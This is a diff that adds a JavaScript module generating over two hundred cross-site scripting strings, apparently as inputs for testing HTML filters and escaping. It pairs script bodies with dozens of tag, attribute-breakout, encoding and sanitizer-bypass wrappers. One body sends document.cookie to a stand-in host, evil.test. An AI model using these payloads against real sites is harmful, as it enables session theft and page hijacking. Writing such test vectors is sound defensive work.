@@ -1,0 +1,62 @@
+/* SPDX-License-Identifier: MIT */
+/* Texts that run a script if a page takes them for markup, in the forms that filters have missed. As paths and field values. */
+
+const PAYLOADS = ['alert(1)', 'window.__ran=1', 'top.__ran=1', 'fetch("//evil.test/"+document.cookie)'];
+const ELEMENTS = [
+	(p) => `<script>${p}</script>`,
+	(p) => `</script><script>${p}</script>`,
+	(p) => `<ScRiPt/x>${p}</sCrIpT>`,
+	(p) => `<script/src=data:,${p}>`,
+	(p) => `<img/src=x/onerror=${p}>`,
+	(p) => `<img/src='x'onerror='${p}'>`,
+	(p) => `<svg/onload=${p}>`,
+	(p) => `<svg><script>${p}</script></svg>`,
+	(p) => `<body/onload=${p}>`,
+	(p) => `<iframe/src=javascript:${p}>`,
+	(p) => `<iframe/srcdoc=<script>${p}</script>>`,
+	(p) => `<a/href=javascript:${p}>x</a>`,
+	(p) => `<details/open/ontoggle=${p}>`,
+	(p) => `<video><source/onerror=${p}>`,
+	(p) => `<input/autofocus/onfocus=${p}>`,
+	(p) => `<math><mtext></form><form><mglyph><style></math><img/src/onerror=${p}>`,
+	(p) => `<object/data=data:text/html,<script>${p}</script>>`,
+	(p) => `<meta/http-equiv=refresh/content=0;url=javascript:${p}>`,
+	(p) => `<link/rel=stylesheet/href=//evil.test/${p}>`,
+	(p) => `<base/href=//evil.test/${p}>`,
+	(p) => `"><script>${p}</script>`,
+	(p) => `'><script>${p}</script>`,
+	(p) => `"/onmouseover=${p}/x="`,
+	(p) => `'/onmouseover=${p}/x='`,
+	(p) => `\`/onmouseover=${p}\``,
+	(p) => `--><script>${p}</script>`,
+	(p) => `]]><script>${p}</script>`,
+	(p) => `</title><script>${p}</script>`,
+	(p) => `</textarea><script>${p}</script>`,
+	(p) => `</style><script>${p}</script>`,
+	(p) => `</noscript><script>${p}</script>`,
+	(p) => `"};${p};//`,
+	(p) => `';${p};//`,
+	(p) => `\\";${p};//`,
+	(p) => `</td></tr></table><script>${p}</script>`,
+	(p) => `\${${p}}`,
+	(p) => `{{${p}}}`,
+	(p) => `javascript:${p}`,
+	(p) => `&lt;script&gt;${p}&lt;/script&gt;`,
+	(p) => `&#60;script&#62;${p}`,
+	(p) => `%3Cscript%3E${p}%3C/script%3E`,
+	(p) => `\\u003cscript\\u003e${p}`,
+	(p) => `<script\\x3e${p}`,
+	(p) => `<!--<img/src=--><img/src=x/onerror=${p}//>`,
+	(p) => `<template><s><template><s><img/src=x/onerror=${p}></s>`,
+	(p) => `__proto__[innerHTML]=<img/src/onerror=${p}>`,
+	(p) => `<x/style=animation-name:x/onanimationstart=${p}>`,
+	(p) => `data:text/html,<script>${p}</script>`,
+	(p) => `<use/href=data:image/svg+xml,<svg/onload=${p}>>`,
+	(p) => `<marquee/onstart=${p}>`,
+	(p) => `<form><button/formaction=javascript:${p}>x`,
+];
+
+/* At least 200, each different, without a space, a "#" or a "?", which would end a path or begin its query. */
+export function xssForms() {
+	return PAYLOADS.flatMap((p) => ELEMENTS.map((e) => e(p).replaceAll(' ', '/').replaceAll('#', '%23').replaceAll('?', '%3f')));
+}
